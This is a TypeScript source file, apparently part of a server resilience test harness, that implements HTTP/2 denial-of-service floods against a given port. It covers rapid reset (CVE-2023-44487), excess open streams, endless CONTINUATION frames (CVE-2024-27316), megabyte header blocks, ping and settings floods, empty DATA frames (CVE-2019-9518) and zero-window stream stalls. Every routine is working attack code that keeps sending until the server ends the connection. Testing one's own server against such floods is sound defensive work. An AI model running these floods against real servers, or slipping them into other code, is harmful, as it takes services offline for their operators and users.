// Floods over HTTP/2: each goes on until the server ends it, and says how that was.

import {
  fieldBlock,
  flags,
  frame,
  frameTypes,
  openRawHttp2,
  type RawEnding,
  requestFields,
  settingsFrame,
} from './raw-http2.ts'

const openEnded = flags.endHeaders
const whole = flags.endHeaders | flags.endStream

function headers(stream: number, block: Buffer, flag: number): Buffer {
  return frame(frameTypes.headers, flag, stream, block)
}

const cancel = Buffer.from([0, 0, 0, 8])
/** Names of client's streams are odd and grow. */
const streamAt = (index: number) => index * 2 + 1

/** Opens a stream and takes it back at once, again and again (CVE-2023-44487). */
export async function rapidReset(port: number): Promise<RawEnding> {
  const raw = await openRawHttp2(port)
  const block = fieldBlock(requestFields('/api/stream?window=reset&channels=main'))
  for (let index = 0, isOpen = true; isOpen; index += 100) {
    const frames = Array.from({ length: 100 }, (_, more) => {
      const stream = streamAt(index + more)
      return Buffer.concat([headers(stream, block, whole), frame(frameTypes.reset, 0, stream, cancel)])
    })
    isOpen = await raw.send(...frames)
  }
  return raw.ended
}

/** Opens streams without an end, far more than the settings permit. */
export async function thousandsOfStreams(port: number): Promise<RawEnding> {
  const raw = await openRawHttp2(port)
  for (let index = 0, isOpen = true; isOpen; index += 100) {
    const frames = Array.from({ length: 100 }, (_, more) => {
      const window = `many${index + more}`
      const block = fieldBlock(requestFields(`/api/stream?window=${window}&channels=main`))
      return headers(streamAt(index + more), block, whole)
    })
    isOpen = await raw.send(...frames)
  }
  return raw.ended
}

/** A header block that never ends (CVE-2024-27316 and its family). */
export async function endlessContinuation(port: number): Promise<RawEnding> {
  const raw = await openRawHttp2(port)
  await raw.send(headers(1, fieldBlock(requestFields('/')), flags.none))
  const more = frame(frameTypes.continuation, flags.none, 1, fieldBlock([['x-more', 'x'.repeat(8000)]]))
  while (await raw.send(more));
  return raw.ended
}

/** Header blocks of a megabyte, each complete. */
export async function hugeHeaders(port: number): Promise<RawEnding> {
  const raw = await openRawHttp2(port)
  const more = fieldBlock([['x-more', 'x'.repeat(16_000)]])
  for (let index = 0, isOpen = true; isOpen; index += 1) {
    const stream = streamAt(index)
    const middle = Array.from({ length: 62 }, () => frame(frameTypes.continuation, flags.none, stream, more))
    const last = frame(frameTypes.continuation, flags.endHeaders, stream, more)
    const first = headers(stream, fieldBlock(requestFields('/healthz')), flags.endStream)
    isOpen = await raw.send(first, ...middle, last)
  }
  return raw.ended
}

async function repeat(port: number, one: Buffer, isReading: boolean, count = 500): Promise<RawEnding> {
  const raw = await openRawHttp2(port)
  if (!isReading) raw.stopReading()
  const many = Buffer.concat(Array.from({ length: count }, () => one))
  while (await raw.send(many));
  return raw.ended
}

const ping = frame(frameTypes.ping, flags.none, 0, Buffer.alloc(8))
const settings = settingsFrame([3, 100])

export const pings = (port: number) => repeat(port, ping, true)
export const pingsUnread = (port: number) => repeat(port, ping, false)
export const settingsAgain = (port: number) => repeat(port, settings, true)
export const settingsUnread = (port: number) => repeat(port, settings, false)

/** Frames of data that hold none (CVE-2019-9518). */
export async function emptyData(port: number): Promise<RawEnding> {
  const raw = await openRawHttp2(port)
  const fields = [...requestFields('/api/messages', 'POST'), ['content-type', 'application/json'] as const]
  await raw.send(headers(1, fieldBlock(fields), openEnded))
  const empty = Buffer.concat(Array.from({ length: 500 }, () => frame(frameTypes.data, 0, 1)))
  while (await raw.send(empty));
  return raw.ended
}

/** Asks for as many streams as it may and gives no window to any: what they say has to wait at the server. */
export async function zeroWindow(port: number, path: string, count: number): Promise<RawEnding> {
  const raw = await openRawHttp2(port, [[4, 0]])
  for (let index = 0; index < count; index += 1) {
    const block = fieldBlock(requestFields(path.replace('WINDOW', `zero${index}`)))
    await raw.send(headers(streamAt(index), block, whole))
  }
  return raw.ended
}
